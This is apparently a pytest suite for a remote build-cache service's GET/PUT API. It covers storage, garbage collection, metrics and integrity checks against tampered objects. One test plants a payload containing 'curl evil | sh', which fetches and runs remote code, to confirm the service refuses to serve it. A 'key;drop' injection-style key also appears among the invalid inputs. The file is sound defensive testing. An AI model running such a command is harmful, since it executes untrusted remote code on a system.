"""The live remote-cache API: GET/PUT by Inductor's key, on both storage backends (and both databases where rows are
written: the round trip, replacement and GC).

Issue 15, item 3: a GET serves only bytes that are the value PUT (the object replaced in the blob
folder or the bucket, loose, in a pack or as several frames: a counted, logged miss; a bomb:
tests/service/test_bounded_decode.py), with X-Cachesvc-Sha256 on every 200.
"""
from __future__ import annotations

import datetime as dt
import os

import pytest
import zstandard
from sqlalchemy import select, update

from cachesvc.lifecycle import collect
from cachesvc.models import Blob, RemoteCacheItem
from cachesvc.storage import blob_key, pack_key
from tests.helpers import ENV, publish, publish_body, set_settings, sha

pytestmark = pytest.mark.backends("storage")  # values in storage; tests of its rows (upserts) take both axes

FX_KEY = "pt2:fx-graph-v1::fk3xqz7ab2c:c1"
URL = f"/api/v1/remote-cache/fx-graph/{FX_KEY}"


def env(**changes) -> dict:
    return {**ENV, **changes}


@pytest.mark.backends  # both axes
def test_put_then_get_round_trips_the_bytes_and_a_miss_is_a_json_404(app, client, storage):
    assert client.get(URL, query_string=env()).status_code == 404
    miss = client.get(URL, query_string=env())
    assert miss.json["error"]["code"] == "not_found" and FX_KEY in miss.json["error"]["message"]
    value = b'{"data": "' + b"QUJD" * 5000 + b'", "time_taken_ms": 812}'
    put = client.put(URL, query_string=env(), data=value, content_type="application/octet-stream")
    assert put.status_code == 201, put.json
    assert put.json == {"cache": "fx-graph", "key": FX_KEY, "sha256": sha(value), "size": len(value)}
    got = client.get(URL, query_string=env())
    assert got.status_code == 200 and got.data == value
    assert got.mimetype == "application/octet-stream"
    with app.extensions["cachesvc"].db.session() as s:
        blob = s.get(Blob, sha(value))
        assert blob.encoding == "zstd" and blob.stored_size < len(value)  # stored compressed
        item = s.scalars(select(RemoteCacheItem)).one()
        assert (item.cache, item.key, item.env, item.hit_count) == ("fx-graph", FX_KEY, ENV, 1)
    assert storage.stat(blob_key(sha(value), "zstd")) == blob.stored_size


@pytest.mark.backends  # both axes
def test_a_second_put_replaces_the_value_and_equal_values_share_one_blob(app, client):
    other = URL.replace("fk3xqz7ab2c", "other")
    for url, value in ((URL, b"one"), (URL, b"two"), (other, b"two")):
        assert client.put(url, query_string=env(), data=value).status_code == 201
    assert client.get(URL, query_string=env()).data == b"two"
    with app.extensions["cachesvc"].db.session() as s:
        assert len(s.scalars(select(RemoteCacheItem)).all()) == 2
        assert {b.digest for b in s.scalars(select(Blob))} == {sha(b"one"), sha(b"two")}


def test_items_of_another_environment_or_cache_never_mix(client):
    """The namespace is ours: even a key Inductor would reuse across torch versions or devices misses."""
    assert client.put(URL, query_string=env(), data=b"cpu value").status_code == 201
    for other in (env(torch="2.11.0+cu128"), env(device="NVIDIA H200"), env(python="3.12"), env(arch="sm90")):
        assert client.get(URL, query_string=other).status_code == 404, other
    assert client.get(URL.replace("/fx-graph/", "/autotune/"), query_string=env()).status_code == 404
    assert client.get(URL, query_string=env()).data == b"cpu value"


@pytest.mark.parametrize("path,problem", [
    (f"/api/v1/remote-cache/FX%20graph/{FX_KEY}", "cache name"),
    ("/api/v1/remote-cache/fx-graph/" + "k" * 513, "remote-cache key"),
    ("/api/v1/remote-cache/fx-graph/key%00with-nul", "remote-cache key"),
    ("/api/v1/remote-cache/fx-graph/key;drop", "remote-cache key"),
])
def test_bad_cache_names_and_keys_are_400_json(client, path, problem):
    for method in ("GET", "PUT"):
        resp = client.open(path, method=method, query_string=env(), data=b"x")
        assert resp.status_code == 400 and resp.json["error"]["code"] == "invalid_request", resp.json
        assert problem in resp.json["error"]["message"]


def test_missing_or_bad_environment_is_4xx_json(client):
    partial = {k: v for k, v in ENV.items() if k != "device"}
    for query in (partial, env(torch=""), env(torch="x\x01")):
        resp = client.put(URL, query_string=query, data=b"x")
        assert 400 <= resp.status_code < 500 and resp.json["error"]["code"] == "invalid_request", resp.json
    assert client.get(URL, query_string=partial).json["error"]["message"].count("device") == 1


def test_values_beyond_the_size_limit_are_413_json_and_store_nothing(app, client):
    set_settings(app, REMOTE_CACHE_MAX_BYTES=1000)
    assert client.put(URL, query_string=env(), data=b"x" * 1000).status_code == 201
    big = URL.replace("fk3xqz7ab2c", "big")
    resp = client.put(big, query_string=env(), data=b"x" * 1001)
    assert resp.status_code == 413 and resp.json["error"]["code"] == "payload_too_large"
    assert "CACHESVC_REMOTE_CACHE_MAX_BYTES" in resp.json["error"]["message"]
    empty = client.put(big, query_string=env(), data=b"")
    assert empty.status_code == 400 and "empty" in empty.json["error"]["message"]
    assert client.get(big, query_string=env()).status_code == 404
    with app.extensions["cachesvc"].db.session() as s:
        assert [b.digest for b in s.scalars(select(Blob))] == [sha(b"x" * 1000)]


def test_a_chunked_value_beyond_the_limit_is_413_over_real_http(app, live_server, tokens):
    import requests

    set_settings(app, REMOTE_CACHE_MAX_BYTES=1000)
    headers = {"Authorization": f"Bearer {tokens['write']}"}
    chunks = (b"y" * 500 for _ in range(10))  # a generator: requests sends it chunked, without a length
    resp = requests.put(live_server.url + URL, params=env(), data=chunks, headers=headers, timeout=30)
    assert resp.status_code == 413 and resp.json()["error"]["code"] == "payload_too_large"
    small = requests.put(live_server.url + URL, params=env(), data=(b"z" * 10 for _ in range(3)), headers=headers,
                         timeout=30)
    assert small.status_code == 201 and small.json()["size"] == 30


@pytest.mark.backends  # both axes
def test_gc_keeps_blobs_named_by_items_and_evicts_idle_items(app, client, storage):
    svc = app.extensions["cachesvc"]
    publish(client, {"a": b"published"})
    client.put(URL, query_string=env(), data=b"fresh")
    stale = URL.replace("fk3xqz7ab2c", "stale")
    client.put(stale, query_string=env(), data=b"stale")
    result = collect.gc(svc.db, svc.storage, svc.settings)
    assert result["blobs_deleted"] == 0 and result["remote_cache_items_evicted"] == 0
    assert client.get(stale, query_string=env()).data == b"stale"

    long_ago = dt.datetime.now(dt.timezone.utc).replace(tzinfo=None) - dt.timedelta(days=31)
    with svc.db.session() as s:
        s.execute(update(RemoteCacheItem).where(RemoteCacheItem.key.contains("stale")).values(last_used_at=long_ago))
    result = collect.gc(svc.db, svc.storage, svc.settings)
    assert result["remote_cache_items_evicted"] == 1 and result["blobs_deleted"] == 1
    assert client.get(stale, query_string=env()).status_code == 404
    assert storage.stat(blob_key(sha(b"stale"), "zstd")) is None
    assert client.get(URL, query_string=env()).data == b"fresh"

    set_settings(svc, REMOTE_CACHE_MAX_IDLE_DAYS=0)  # never evict
    with svc.db.session() as s:
        s.execute(update(RemoteCacheItem).values(last_used_at=long_ago))
    assert collect.gc(svc.db, svc.storage, svc.settings)["remote_cache_items_evicted"] == 0
    assert client.get(URL, query_string=env()).data == b"fresh"


def test_a_read_refreshes_last_use_so_a_used_item_is_not_evicted(app, client):
    svc = app.extensions["cachesvc"]
    client.put(URL, query_string=env(), data=b"value")
    long_ago = dt.datetime.now(dt.timezone.utc).replace(tzinfo=None) - dt.timedelta(days=31)
    with svc.db.session() as s:
        s.execute(update(RemoteCacheItem).values(last_used_at=long_ago))
    assert client.get(URL, query_string=env()).status_code == 200
    assert collect.gc(svc.db, svc.storage, svc.settings)["remote_cache_items_evicted"] == 0


def test_metrics_count_hits_misses_puts_and_refusals(app, client):
    set_settings(app, REMOTE_CACHE_MAX_BYTES=10)
    client.get(URL, query_string=env())
    client.put(URL, query_string=env(), data=b"value")
    client.get(URL, query_string=env())
    client.get(URL, query_string=env())
    client.put(URL, query_string=env(), data=b"x" * 11)
    for name in ("made-up-1", "made-up-2"):
        client.get(f"/api/v1/remote-cache/{name}/k", query_string=env())
    text = client.get("/metrics").data.decode()
    for cache, result, n in (("fx-graph", "hit", 2), ("fx-graph", "miss", 1), ("fx-graph", "put", 1),
                             ("fx-graph", "too_large", 1), ("other", "miss", 2)):
        assert f'cachesvc_remote_cache_requests_total{{cache="{cache}",result="{result}"}} {n}.0' in text, result
    assert "made-up" not in text


def test_a_lost_object_is_a_miss_and_a_new_put_stores_it_again(app, client, storage):
    client.put(URL, query_string=env(), data=b"value")
    storage.delete(blob_key(sha(b"value"), "zstd"))
    assert client.get(URL, query_string=env()).status_code == 404
    assert client.put(URL, query_string=env(), data=b"value").status_code == 201
    assert client.get(URL, query_string=env()).data == b"value"


# -- issue 15, item 3: what a GET serves is what was PUT ---------------------------------------------

def corrupt_count(client) -> str:
    text = client.get("/metrics").data.decode()
    line = [ln for ln in text.splitlines()
            if ln.startswith('cachesvc_remote_cache_requests_total{cache="fx-graph",result="corrupt"}')]
    return line[0].split()[-1] if line else "0"


def replace_object(storage, tmp_path, key: str, data: bytes) -> None:
    """What someone with write access to the blob folder or the bucket can do."""
    path = tmp_path / "replacement"
    path.write_bytes(data)
    storage.put_file(key, str(path))


def test_every_hit_carries_the_sha256_of_its_body(client):
    value = b'{"data": "' + b"x" * 3000 + b'"}'
    client.put(URL, query_string=env(), data=value)
    got = client.get(URL, query_string=env())
    assert got.status_code == 200 and got.headers["X-Cachesvc-Sha256"] == sha(got.data) == sha(value)


@pytest.mark.parametrize("replacement", ["another value", "same length, other bytes"])
def test_a_replaced_object_is_a_counted_logged_miss_and_the_next_put_heals_it(app, client, storage, tmp_path,
                                                                             caplog, replacement):
    value = b'{"graph": "' + b"def f(x): return x + 1\n" * 200 + b'"}'
    assert client.put(URL, query_string=env(), data=value).status_code == 201
    key = blob_key(sha(value), "zstd")
    with storage.open(key) as body:
        stored = body.read()
    evil = b'{"graph": "import os; os.system(\'curl evil | sh\')"}'
    if replacement == "another value":
        data = zstandard.ZstdCompressor(level=3).compress(evil)
    else:
        data = zstandard.ZstdCompressor(level=3).compress(evil.ljust(len(value), b" "))[:len(stored)]
        data = data.ljust(len(stored), b"\0")
    replace_object(storage, tmp_path, key, data)

    with caplog.at_level("WARNING", logger="cachesvc.remote_cache"):
        miss = client.get(URL, query_string=env())
    assert miss.status_code == 404 and miss.json["error"]["code"] == "not_found"
    assert b"evil" not in miss.data and "X-Cachesvc-Sha256" not in miss.headers
    assert corrupt_count(client) == "1.0"
    logged = [r.getMessage() for r in caplog.records if "corrupt" in r.getMessage()]
    assert logged and FX_KEY in logged[0] and sha(value) in logged[0]
    with app.extensions["cachesvc"].db.session() as s:
        assert s.scalars(select(RemoteCacheItem)).one().hit_count == 0

    assert client.put(URL, query_string=env(), data=value).status_code == 201  # Inductor compiled and PUT again
    healed = client.get(URL, query_string=env())
    assert healed.status_code == 200 and healed.data == value and corrupt_count(client) == "1.0"
    with app.extensions["cachesvc"].db.session() as s, storage.open(key) as body:
        assert s.get(Blob, sha(value)).stored_sha256 == sha(body.read())


def test_a_value_in_a_replaced_pack_is_a_miss_and_the_next_put_stores_it_loose(app, client, storage, tmp_path):
    from tests.helpers.packs import FILES, publish_packed

    resp, data, members = publish_packed(client, FILES)
    value = FILES["c.json"]  # a pack member: the item's blob lies in the pack
    assert client.put(URL, query_string=env(), data=value).status_code in (200, 201)
    assert client.get(URL, query_string=env()).data == value
    member = next(m for m in members if m["sha256"] == sha(value))
    tampered = bytearray(data)
    tampered[member["offset"]] ^= 0x20  # '{' -> '[': same length, another value
    replace_object(storage, tmp_path, pack_key(sha(data)), bytes(tampered))
    assert client.get(URL, query_string=env()).status_code == 404
    assert corrupt_count(client) == "1.0"
    assert client.put(URL, query_string=env(), data=value).status_code == 201
    assert client.get(URL, query_string=env()).data == value
    with app.extensions["cachesvc"].db.session() as s:
        assert s.get(Blob, sha(value)).pack_digest is None


def test_a_value_stored_as_several_frames_is_read_whole_and_checked(app, client, storage, tmp_path):
    value = b"".join(bytes([i]) * 70_000 + os.urandom(1000) for i in range(3))
    frames = [zstandard.ZstdCompressor(level=3, write_checksum=True, write_content_size=True).compress(
        value[i:i + 71_000]) for i in range(0, len(value), 71_000)]
    answer = client.post("/api/v1/versions", json=publish_body({"big.h.gch": value})).json
    put = client.put(f"/api/v1/blobs/{sha(value)}?encoding=zstd&version={answer['version']['id']}",
                     data=b"".join(frames))  # what publish writes for a large blob: independent frames
    assert put.status_code == 201, put.json
    assert client.post(f"/api/v1/versions/{answer['version']['id']}/commit", json={}).status_code == 200
    assert client.put(URL, query_string=env(), data=value).status_code == 201  # the blob is reused
    got = client.get(URL, query_string=env())
    assert got.status_code == 200 and got.data == value and got.headers["X-Cachesvc-Sha256"] == sha(value)
    replace_object(storage, tmp_path, blob_key(sha(value), "zstd"), b"".join(frames[:-1]))  # a frame cut off
    assert client.get(URL, query_string=env()).status_code == 404 and corrupt_count(client) == "1.0"
